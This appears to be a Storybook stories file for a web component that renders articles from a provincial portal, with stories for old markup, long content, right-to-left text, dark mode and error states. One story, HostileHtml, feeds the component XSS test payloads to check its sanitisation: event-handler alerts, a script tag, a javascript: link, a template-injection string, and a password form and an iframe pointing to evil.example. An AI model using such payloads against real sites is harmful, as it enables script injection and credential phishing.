import type {Meta, StoryObj} from '@storybook/web-components-vite';
import {html} from 'lit';
import '../src/elements/article/define.js';
import type {PortalArticle, SourceConfig} from '../src/index.js';
import {answers, source} from './support/backend.js';

/** A source that has one article, which differs in this from the usual one. */
const sourceOf = (difference: object): SourceConfig => ({
  fetch: () => Promise.resolve(new Response(JSON.stringify({...answers.article, ...difference}))),
});

const meta: Meta<PortalArticle> = {
  title: 'Elements/Article',
  component: 'portal-article',
  args: {
    articleId: '100',
    heading: '',
    headingLevel: 1,
    showTime: false,
    showViews: false,
    mediaHosts: '',
    source: source(),
  },
  render: ({articleId, heading, headingLevel, showTime, showViews, mediaHosts, source: backend}) => html`
    <portal-article
      article-id=${articleId}
      heading=${heading}
      heading-level=${headingLevel}
      ?show-time=${showTime}
      ?show-views=${showViews}
      media-hosts=${mediaHosts}
      .source=${backend}
    ></portal-article>
  `,
};
export default meta;

type Story = StoryObj<PortalArticle>;

export const Content: Story = {};

export const WithTimeAndViews: Story = {args: {showTime: true, showViews: true}};

export const UnderAHeading: Story = {args: {heading: 'Tin nổi bật', headingLevel: 2}};

/** Only what every backend has. */
export const Short: Story = {
  args: {
    source: sourceOf({
      lead: null,
      author: null,
      category: null,
      image: null,
      source: null,
      tags: [],
      attachments: [],
      body: '<p>Cơ quan nghỉ Tết Nguyên đán từ ngày 14/02 đến hết ngày 22/02/2026.</p>',
    }),
  },
};

/** A photo in a table, a photo with a centred paragraph, a Word paste, and the author as the last line of the text. */
export const OldMarkup: Story = {
  args: {
    source: sourceOf({
      image: null,
      body: `<p class="MsoNormal" style="text-align: justify"><span style="font-family: Arial">Sáng nay, ngư dân Hải Tân ra khơi<o:p></o:p></span></p>
        <table align="center" border="0"><tr><td><img src="/media/photos/cang-ca-tau-thuyen.webp" style="width: 600px; height: 400px"></td></tr>
        <tr><td class="Image"><em>Cảng cá Hải Tân buổi sớm</em></td></tr></table><p>&nbsp;</p>
        <p align="center"><img src="/media/photos/canh-dong-lua-nong-dan.webp" width="600" height="400"></p><p align="center"><i>Ruộng lúa vào vụ gặt</i></p>
        <p style="text-align: right"><strong>Minh Hằng</strong></p>`,
    }),
  },
};

/** A title of 200 characters, long words and addresses, a table and a picture that are wider than any screen. */
export const LongAndWide: Story = {
  args: {
    source: sourceOf({
      title: 'Hội nghị tổng kết công tác năm 2025 và triển khai nhiệm vụ năm 2026 '.repeat(3).trim(),
      body: `<p>https://binhhai.example/${'van-ban-chi-dao-dieu-hanh/'.repeat(8)}</p>
        <table><caption>Kết quả theo tháng</caption><thead><tr>${'<th scope="col">Chỉ tiêu</th>'.repeat(13)}</tr></thead><tbody><tr>${'<td>1.234.567</td>'.repeat(13)}</tr></tbody></table>
        <figure><img src="/media/photos/cau-day-vang-binh-minh.webp" alt="Cầu dây văng" width="6000" height="4000"><figcaption>Ảnh khổ lớn</figcaption></figure>`,
      attachments: Array(3).fill({
        title: 'Kế hoạch thực hiện Chương trình hành động của Ủy ban nhân dân tỉnh về phát triển kinh tế số',
        url: '/media/files/ke-hoach.docx',
        size: 5_242_880,
      }),
    }),
  },
};

/** What an attacker sends, and what is left of it. */
export const HostileHtml: Story = {
  args: {
    source: sourceOf({
      title: 'Trúng thưởng <img src=x onerror="alert(1)"> {{constructor}}',
      body: `<p onclick="alert(1)" style="position: fixed; inset: 0; font-size: 200px">Đoạn này không che được trang.</p><script>alert(1)</script>
        <form action="https://evil.example/"><p>Nhập mật khẩu:</p><input type="password"></form><p><a href="javascript:alert(1)">Bấm vào đây</a></p>
        <p>{{constructor.constructor('alert(1)')()}}</p><svg onload="alert(1)"></svg><iframe src="https://evil.example/"></iframe>
        <p>Z${'\u0310'.repeat(300)}algo</p>${'<blockquote>'.repeat(30)}<p>Lùi mãi</p>`,
    }),
  },
};

/** Pictures and films of another host become links; `media-hosts` lets them in. */
export const MediaElsewhere: Story = {
  args: {
    source: sourceOf({
      image: {url: 'https://anh.bao.example/le-hoi.jpg', alt: 'Lễ hội', caption: 'Ảnh: Báo Bình Hải'},
      body: '<p>Lễ hội đua thuyền khai mạc.</p><video src="https://video.bao.example/le-hoi.mp4"></video>',
    }),
  },
};

export const RightToLeftArticle: Story = {
  args: {
    source: sourceOf({
      title: 'مرحبا بكم في بوابة مقاطعة بينه هاي',
      lead: 'خبر قصير عن المقاطعة',
      author: 'محمد',
      image: null,
      body: '<p>مرحبا بكم في البوابة الرسمية.</p><ul><li>أولا</li><li>ثانيا</li></ul>',
    }),
  },
};

export const RightToLeftPage: Story = {decorators: [(story) => html`<div dir="rtl">${story()}</div>`]};

/** On the smallest phone. */
export const Narrow: Story = {decorators: [(story) => html`<div style="inline-size: 320px">${story()}</div>`]};

export const Dark: Story = {globals: {theme: 'dark'}};

export const Waiting: Story = {args: {source: source({delay: Infinity})}};

export const WaitingWithAuthorContent: Story = {
  render: () => html`
    <portal-article article-id="100" .source=${source({delay: Infinity})}>
      <h1>Khởi công cầu Sông Hải</h1>
      <p>Nội dung do máy chủ đưa sẵn vào trang.</p>
    </portal-article>
  `,
};

export const NotFound: Story = {args: {source: source({fail: 404})}};

export const WithoutId: Story = {args: {articleId: ''}};

export const Empty: Story = {
  args: {source: sourceOf({body: '<p>&nbsp;</p>', lead: null, image: null, attachments: []})},
};

export const Failed: Story = {args: {source: source({fail: 'down'})}};

export const NotJson: Story = {args: {source: source({fail: 'html'})}};

export const TooDeep: Story = {args: {source: sourceOf({body: '<div>'.repeat(5000)})}};

export const Stale: Story = {
  args: {source: source({failsLater: true})},
  play: async ({canvasElement}) => {
    const element = canvasElement.querySelector('portal-article')!;
    await new Promise((resolve) => element.addEventListener('portal-load', resolve, {once: true}));
    element.source = {...(element.source as object)};
  },
};

export const English: Story = {
  args: {showTime: true, showViews: true},
  decorators: [(story) => html`<div lang="en">${story()}</div>`],
};
